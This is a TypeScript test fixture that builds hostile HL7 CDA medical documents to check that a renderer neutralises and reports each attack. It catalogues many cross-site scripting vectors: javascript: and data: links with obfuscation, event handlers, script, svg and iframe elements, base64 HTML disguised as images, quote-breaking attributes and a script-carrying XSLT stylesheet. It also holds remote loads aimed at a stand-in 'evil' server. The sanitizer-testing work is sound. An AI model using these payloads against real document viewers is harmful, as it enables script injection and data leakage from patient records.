import { rawMarkup } from '@kartoteka/xml';
import { changed, good, png, withSection } from './documents.ts';

/** One way to attack whoever opens a document. */
export interface Payload {
  readonly name: string;
  readonly document: Uint8Array;
  /** What the notice has to name; nothing where the attack is plain text once it is escaped. */
  readonly notice: RegExp | undefined;
}

/** What a payload runs when it can; the test counts the calls. */
const run = 'PWNED()';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`;
const html = `<html><script>${run}</script></html>`;
const base64 = (text: string) => Buffer.from(text).toString('base64');
const escaped = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
const xhtml = 'xmlns="http://www.w3.org/1999/xhtml"';

/**
 * The attacks of the hostile document set, in documents that otherwise say "ZOSTAJE" in a section.
 *
 * @param evil address of a server that must not hear from anybody
 */
export function hostilePayloads(evil: string): readonly Payload[] {
  const narrative = (name: string, markup: string, notice: RegExp | undefined): Payload => ({
    name,
    document: withSection(`<paragraph>ZOSTAJE</paragraph>${markup}<paragraph>DALEJ</paragraph>`),
    notice,
  });
  const media = (
    name: string,
    attributes: string,
    content: string,
    notice: RegExp | undefined,
  ): Payload => ({
    name,
    document: withSection(
      '<paragraph>ZOSTAJE</paragraph><renderMultiMedia referencedObject="M1"/>',
      `<entry><observationMedia ID="M1" classCode="OBS" moodCode="EVN"><value ${attributes}>${content}</value></observationMedia></entry>`,
    ),
    notice,
  });
  const whole = (name: string, text: string, notice: RegExp | undefined): Payload => ({
    name,
    document: changed(
      good('KON'),
      /<structuredBody[\s\S]*<\/structuredBody>/,
      `<nonXMLBody>${text}</nonXMLBody>`,
    ),
    notice,
  });
  const header = (
    name: string,
    from: string | RegExp,
    to: string,
    notice: RegExp | undefined,
  ): Payload => ({
    name,
    document: changed(withSection('<paragraph>ZOSTAJE</paragraph>'), from, to),
    notice,
  });
  const b64 = (mime: string) => `representation="B64" mediaType="${escaped(mime)}"`;
  return [
    narrative(
      'a link to javascript:',
      `<linkHtml href="javascript:${run}">x</linkHtml>`,
      /^link:javascript$/,
    ),
    narrative(
      'a link to JaVaScRiPt:',
      `<linkHtml href="JaVaScRiPt:${run}">x</linkHtml>`,
      /^link:javascript$/,
    ),
    narrative(
      'a link with a tab inside',
      `<linkHtml href="java&#9;script:${run}">x</linkHtml>`,
      /^link:javascript$/,
    ),
    narrative(
      'a link with line ends inside',
      `<linkHtml href="&#10; java&#13;&#10;script:${run}">x</linkHtml>`,
      /^link:javascript$/,
    ),
    narrative(
      'a link to data:text/html',
      `<linkHtml href="data:text/html,${escaped(html)}">x</linkHtml>`,
      /^link:data$/,
    ),
    narrative(
      'a link to vbscript:',
      '<linkHtml href="vbscript:PWNED">x</linkHtml>',
      /^link:vbscript$/,
    ),
    narrative(
      'an event handler on a paragraph',
      `<paragraph onclick="${run}" onmouseover="${run}">x</paragraph>`,
      /^attribute:on/,
    ),
    narrative(
      'an event handler in capitals',
      `<content ONFOCUS="${run}" tabindex="0">x</content>`,
      /^attribute:onfocus$/,
    ),
    narrative(
      'a cell with handler and background',
      `<table><tbody><tr><td onmouseover="${run}" background="${evil}/b.png">x</td></tr></tbody></table>`,
      /^attribute:(on|background)/,
    ),
    narrative('a script in the HL7 namespace', `<script>${run}</script>`, /^element:script$/),
    narrative(
      'a script in the XHTML namespace',
      `<script ${xhtml}>${run}</script>`,
      /^element:script$/,
    ),
    narrative(
      'a remote script',
      `<h:script xmlns:h="http://www.w3.org/1999/xhtml" src="${evil}/s.js"/>`,
      /^element:script$/,
    ),
    narrative(
      'an iframe with srcdoc',
      `<iframe srcdoc="${escaped(html)}" src="${evil}/i"/>`,
      /^element:iframe$/,
    ),
    narrative('an svg with onload', svg, /^element:svg$/),
    narrative(
      'an svg link',
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
      /^element:svg$/,
    ),
    narrative('an image with onerror', `<img src="x" onerror="${run}"/>`, /^image:/),
    narrative('a remote image', `<img ${xhtml} src="${evil}/p.png"/>`, /^image:/),
    narrative(
      'an object',
      `<object data="${evil}/o" type="text/html">zastępczo</object>`,
      /^element:object$/,
    ),
    narrative('an embed', `<embed src="${evil}/e.swf"/>`, /^element:embed$/),
    narrative(
      'a style sheet with @import',
      `<style>@import url(${evil}/c.css); body { background: url(${evil}/c.png) }</style>`,
      /^element:style$/,
    ),
    narrative(
      'a style attribute with url()',
      `<p ${xhtml} style="background:url(${evil}/s.png)">x</p>`,
      /^attribute:style$/,
    ),
    narrative(
      'a form',
      `<form action="${evil}/f"><button formaction="${evil}/g">x</button></form>`,
      /^element:form$/,
    ),
    narrative(
      'a meta refresh',
      `<meta http-equiv="refresh" content="0;url=${evil}/r"/>`,
      /^element:meta$/,
    ),
    narrative('a base', `<base href="${evil}/"/>`, /^element:base$/),
    narrative(
      'a linked style sheet',
      `<link rel="stylesheet" href="${evil}/l.css"/>`,
      /^element:link$/,
    ),
    narrative(
      'a video with poster',
      `<video poster="${evil}/v.png" src="${evil}/v.mp4" onerror="${run}"/>`,
      /^element:video$/,
    ),
    narrative(
      'math markup',
      `<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline" xlink:href="javascript:${run}" xmlns:xlink="http://www.w3.org/1999/xlink">x</maction></math>`,
      /^element:math$/,
    ),
    narrative(
      'noscript and template',
      `<noscript>${svg}</noscript><template>${svg}</template>`,
      /^element:(noscript|template)$/,
    ),
    narrative(
      'a style code that is CSS',
      `<content styleCode="Bold; background:url(${evil}/k.png)">x</content>`,
      undefined,
    ),
    narrative(
      'a mark that closes its quotes',
      `<paragraph ID="a&quot; onmouseover=&quot;${run}">x</paragraph>`,
      undefined,
    ),
    narrative(
      'a script as text',
      `<![CDATA[<script>${run}</script>]]> &lt;img src=x onerror=${run}&gt; &amp;lt;script&gt;`,
      undefined,
    ),
    media(
      'a remote picture',
      'mediaType="image/png"',
      `<reference value="${evil}/m.png"/>`,
      /^content:http$/,
    ),
    media(
      'a picture without scheme',
      'mediaType="image/png"',
      `<reference value="${evil.replace('http:', '')}/m.png"/>`,
      /^content:relative$/,
    ),
    media(
      'a picture that is a script',
      'mediaType="image/png"',
      `<reference value="javascript:${run}"/>`,
      /^content:javascript$/,
    ),
    media('an embedded svg', b64('image/svg+xml'), base64(svg), /^content:image\/svg\+xml$/),
    media('an svg that calls itself png', b64('image/png'), base64(svg), undefined),
    media('a web page that calls itself png', b64('image/png'), base64(html), undefined),
    media('an embedded web page', b64('text/html'), base64(html), /^content:text\/html$/),
    media(
      'a type that closes its quotes',
      b64(`image/png" onerror="${run}`),
      png.toString('base64'),
      /^content:image\/png/,
    ),
    whole(
      'a body that is a web page',
      `<text ${b64('text/html')}>${base64(html)}</text>`,
      /^content:text\/html$/,
    ),
    whole(
      'a body that is an svg',
      `<text ${b64('image/svg+xml')}>${base64(svg)}</text>`,
      /^content:image\/svg\+xml$/,
    ),
    whole(
      'a body that is a script',
      `<text mediaType="text/html"><reference value="javascript:${run}"/></text>`,
      /^content:javascript$/,
    ),
    whole(
      'a body that is fetched',
      `<text mediaType="text/html"><reference value="${evil}/n.html"/></text>`,
      /^content:http$/,
    ),
    whole(
      'a body with a type that closes its quotes',
      `<text ${b64(`application/pdf"><script>${run}</script>`)}>${base64('%PDF-1.4')}</text>`,
      /^content:application\/pdf/,
    ),
    header(
      'a title that is markup',
      /<title>Konsultacja[^<]*/,
      `<title>&lt;script&gt;${run}&lt;/script&gt;`,
      undefined,
    ),
    header(
      'a name that is markup',
      '<given>Żaneta',
      `<given>Żaneta&lt;img src=x onerror=${run}&gt;`,
      undefined,
    ),
    header(
      'a section title with an element',
      '<title>Dodatek',
      `<title>Dodatek<script>${run}</script>`,
      undefined,
    ),
    header(
      'a stylesheet elsewhere',
      /href="CDA_PL_IG_1\.3\.1\.xsl"/,
      `href="${evil}/x.xsl"`,
      /^stylesheet:http$/,
    ),
    header(
      'a stylesheet that the document carries',
      /href="CDA_PL_IG_1\.3\.1\.xsl"/,
      'href="#s"',
      /^stylesheet:relative$/,
    ),
    {
      name: 'a carried stylesheet as an element of the document',
      document: good('KON', {
        extra: [
          rawMarkup(
            `<component><section><text><paragraph>ZOSTAJE</paragraph></text><x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0" id="s"><x:template match="/"><script>${run}</script></x:template></x:stylesheet></section></component>`,
          ),
        ],
        stylesheet: '#s',
      }),
      notice: /^stylesheet:relative$/,
    },
  ];
}
